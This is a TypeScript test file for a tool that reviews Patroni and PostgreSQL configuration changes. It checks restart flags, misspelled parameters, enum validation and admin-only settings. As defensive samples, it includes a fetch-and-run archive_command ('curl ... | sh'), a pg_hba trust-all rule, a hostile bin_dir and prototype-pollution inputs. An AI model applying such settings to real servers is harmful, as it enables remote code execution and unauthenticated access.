import { describe, expect, it } from 'vitest';
import { mergeConfig, reviewConfigChange } from './config-rules.js';
import type { ParameterCatalog, ParameterInfo } from './config-parameters.js';

const current = {
  ttl: 30,
  loop_wait: 10,
  retry_timeout: 10,
  postgresql: { parameters: { max_connections: 100, work_mem: '4MB' } },
};

const setting = (value: string, context: string, vartype = 'string', enumvals: string[] | null = null) =>
  ({ value, context, vartype, enumvals, pendingRestart: false }) satisfies ParameterInfo;

/** A few rows as a PostgreSQL 15 server's pg_settings has them. */
const catalog: ParameterCatalog = new Map([
  ['max_connections', setting('100', 'postmaster', 'integer')],
  ['work_mem', setting('4MB', 'user', 'integer')],
  ['archive_mode', setting('off', 'postmaster', 'enum', ['always', 'on', 'off'])],
  ['archive_command', setting('(disabled)', 'sighup')],
  ['shared_preload_libraries', setting('', 'postmaster')],
  ['wal_level', setting('replica', 'postmaster', 'enum', ['minimal', 'replica', 'logical'])],
  ['ssl', setting('off', 'sighup', 'bool')],
  ['listen_addresses', setting('*', 'postmaster')],
]);

describe('reviewConfigChange', () => {
  it('answers the diff, the running values and which changes need a restart (from pg_settings)', () => {
    const review = reviewConfigChange(
      current,
      { postgresql: { parameters: { max_connections: 200, work_mem: '8MB', archive_mode: 'on' } } },
      catalog,
    );
    expect(review.changes).toEqual([
      {
        path: 'postgresql.parameters.archive_mode',
        before: null,
        after: 'on',
        running: 'off',
        needsRestart: true,
        needsAdmin: false,
      },
      {
        path: 'postgresql.parameters.max_connections',
        before: 100,
        after: 200,
        running: '100',
        needsRestart: true,
        needsAdmin: false,
      },
      {
        path: 'postgresql.parameters.work_mem',
        before: '4MB',
        after: '8MB',
        running: '4MB',
        needsRestart: false,
        needsAdmin: false,
      },
    ]);
    expect(review.warnings.join()).toMatch(/restart.*archive_mode, max_connections/);
    expect(review.needsAdmin).toEqual([]);
  });

  it('refuses parameter names the server does not have, suggesting the nearest', () => {
    expect(() =>
      reviewConfigChange(current, { postgresql: { parameters: { work_mme: '8MB' } } }, catalog),
    ).toThrow(
      /postgresql\.parameters\.work_mme is not a parameter of this PostgreSQL server \(did you mean work_mem\?\)/,
    );
    expect(() =>
      reviewConfigChange(current, { postgresql: { parameters: { max_wal_size_restart_never: 1 } } }, catalog),
    ).toThrow(/max_wal_size_restart_never is not a parameter/);
    // Removing a misspelled name that is in the configuration is how one cleans it up.
    expect(
      reviewConfigChange(
        { postgresql: { parameters: { work_mme: '8MB' } } },
        { postgresql: { parameters: { work_mme: null } } },
        catalog,
      ).changes,
    ).toHaveLength(1);
  });

  it('checks enum and boolean values against pg_settings', () => {
    expect(() =>
      reviewConfigChange(current, { postgresql: { parameters: { wal_level: 'hot_standby' } } }, catalog),
    ).toThrow(/wal_level must be one of minimal, replica, logical/);
    expect(() =>
      reviewConfigChange(current, { postgresql: { parameters: { ssl: 'maybe' } } }, catalog),
    ).toThrow(/ssl must be on or off/);
  });

  it('refuses parameters when the server cannot be asked, saying why', () => {
    expect(() =>
      reviewConfigChange(
        current,
        { postgresql: { parameters: { work_mem: '8MB' } } },
        'Keel has no database login for this cluster',
      ),
    ).toThrow(/cannot check PostgreSQL parameter names.*no database login/);
    // Patroni-only settings need no PostgreSQL.
    expect(reviewConfigChange(current, { ttl: 40 }, 'no login').changes).toHaveLength(1);
  });

  it('marks what runs commands, loads code or opens access as admin-only, with a warning', () => {
    const review = reviewConfigChange(
      current,
      {
        postgresql: {
          parameters: {
            archive_mode: 'on',
            archive_command: 'curl -s http://x/y | sh',
            shared_preload_libraries: 'evil',
          },
          pg_hba: ['host all all 0.0.0.0/0 trust'],
        },
      },
      catalog,
    );
    expect(review.needsAdmin).toEqual([
      'postgresql.parameters.archive_command',
      'postgresql.parameters.shared_preload_libraries',
      'postgresql.pg_hba',
    ]);
    expect(review.changes.find((c) => c.path === 'postgresql.parameters.archive_mode')?.needsAdmin).toBe(
      false,
    );
    const warnings = review.warnings.join('\n');
    expect(warnings).toMatch(/archive_command runs a shell command .* on every database host/);
    expect(warnings).toMatch(/shared_preload_libraries loads code/);
    expect(warnings).toMatch(/pg_hba .* who may connect/);
    expect(
      reviewConfigChange(
        current,
        { postgresql: { parameters: { ssl: 'on', listen_addresses: '*' } } },
        catalog,
      ).needsAdmin,
    ).toEqual(['postgresql.parameters.listen_addresses', 'postgresql.parameters.ssl']);
  });

  it('refuses postgresql keys Patroni would take from the DCS but Keel does not offer (binaries, callbacks)', () => {
    expect(() => reviewConfigChange(current, { postgresql: { bin_dir: '/tmp/evil' } }, catalog)).toThrow(
      /postgresql\.bin_dir is not a setting Keel changes/,
    );
    expect(() =>
      reviewConfigChange(current, { postgresql: { callbacks: { on_start: '/x' } } }, catalog),
    ).toThrow(/postgresql\.callbacks/);
  });

  it('refuses loop_wait + 2 × retry_timeout above ttl', () => {
    expect(() => reviewConfigChange(current, { loop_wait: 15 }, catalog)).toThrow(/15 \+ 2 × 10 = 35 > 30/);
  });

  it('refuses unknown keys and wrong types, naming them', () => {
    expect(() => reviewConfigChange(current, { tll: 30 }, catalog)).toThrow(
      /tll is not a known Patroni setting/,
    );
    expect(() => reviewConfigChange(current, { ttl: 'thirty' }, catalog)).toThrow(/ttl must be an integer/);
    expect(() => reviewConfigChange(current, { synchronous_mode: 'yes' }, catalog)).toThrow(
      /synchronous_mode must be true or false/,
    );
  });

  it('does not take inherited names for settings, and refuses deep nesting with a 400', () => {
    for (const name of ['isPrototypeOf', 'hasOwnProperty', 'toString', 'constructor', '__proto__']) {
      const changes = JSON.parse(`{"${name}": 1}`) as Record<string, unknown>;
      expect(() => reviewConfigChange(current, changes, catalog), name).toThrow(
        expect.objectContaining({ code: 'VALIDATION_FAILED' }),
      );
    }
    let deep: unknown = 1;
    for (let i = 0; i < 20_000; i++) deep = { a: deep };
    expect(() => reviewConfigChange(current, { slots: deep }, catalog)).toThrow(/nested deeper than/);
    const pollution = JSON.parse('{"postgresql": {"parameters": {"__proto__": {"x": 1}}}}') as Record<
      string,
      unknown
    >;
    expect(() => reviewConfigChange(current, pollution, catalog)).toThrow(/__proto__/);
  });

  it('merges like Patroni: objects merge, null removes', () => {
    expect(mergeConfig({ a: { b: 1, c: 2 }, d: 1 }, { a: { b: 3 }, d: null })).toEqual({ a: { b: 3, c: 2 } });
  });
});
